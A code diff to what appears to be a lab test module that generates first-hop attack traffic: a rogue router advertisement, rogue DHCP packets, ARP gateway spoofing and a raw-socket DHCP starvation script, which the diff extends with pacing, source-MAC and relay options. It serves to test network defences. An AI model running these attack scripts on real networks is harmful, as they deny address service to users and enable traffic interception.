@@ -1,6 +1,7 @@
 """Attack traffic the first-hop security tests send from a client namespace (python3 of the lab image, raw sockets):
 a rogue router advertisement, DHCP server packets from an odd source port, ARP claiming the gateway, and a DHCP
-starvation run with random MAC addresses. Each function returns a script for ``python3 -c``."""
+starvation run with random MAC addresses (from random sources, from the port's own MAC, or through a relay's
+address). Each function returns a script for ``python3 -c``."""
 
 ROUTER_ADVERTISEMENT = r'''
 import socket, struct
@@ -38,11 +39,16 @@ for _ in range(5):
     s.send(frame)
 '''
 
-# DISCOVER, then REQUEST for every OFFER, from %(count)d random MACs in a few seconds (what dhcpstarv does).
+# DISCOVER, then REQUEST for every OFFER, for %(count)d random client MACs (chaddr), one every %(interval)s s (what
+# dhcpstarv does; at most the port's DHCP rate limit, so that the rate limit alone does not stop it). Each frame comes from its client's MAC, or with %(own_source)s from the port's own MAC whatever the chaddr;
+# giaddr %(giaddr)s (0.0.0.0: not relayed; a relay's address: Kea leases from that address's segment and answers
+# the relay, not the client). Prints the OFFERs that came back.
 DHCP_STARVATION = r'''
 import random, select, socket, struct, time
 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
 s.bind(("eth0", 0))
+own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
+giaddr = socket.inet_aton("%(giaddr)s")
 
 def checksum(header):
     total = sum(struct.unpack("!10H", header))
@@ -50,12 +56,12 @@ def checksum(header):
     return ~(total + (total >> 16)) & 0xffff
 
 def frame(mac, xid, kind, options=b""):
-    dhcp = struct.pack("!BBBBIHH16s16s", 1, 1, 6, 0, xid, 0, 0x8000, b"", mac) + b"\0" * 192
+    dhcp = struct.pack("!BBBBIHH12s4s16s", 1, 1, 6, 0, xid, 0, 0x8000, b"", giaddr, mac) + b"\0" * 192
     dhcp += b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + options + b"\xff"
     udp = struct.pack("!HHHH", 68, 67, 8 + len(dhcp), 0) + dhcp
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, b"\0" * 4, b"\xff" * 4)
     ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
-    return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp
+    return b"\xff" * 6 + (own if %(own_source)s else mac) + b"\x08\x00" + ip + udp
 
 pending, offers = {}, 0
 def receive(until):
@@ -85,7 +91,7 @@ for _ in range(%(count)d):
     mac, xid = bytes([2] + [random.randrange(256) for _ in range(5)]), random.getrandbits(32)
     pending[xid] = mac
     s.send(frame(mac, xid, 1))
-    receive(time.time() + 0.01)
+    receive(time.time() + %(interval)s)
 receive(time.time() + 3)
 print(offers)
 '''
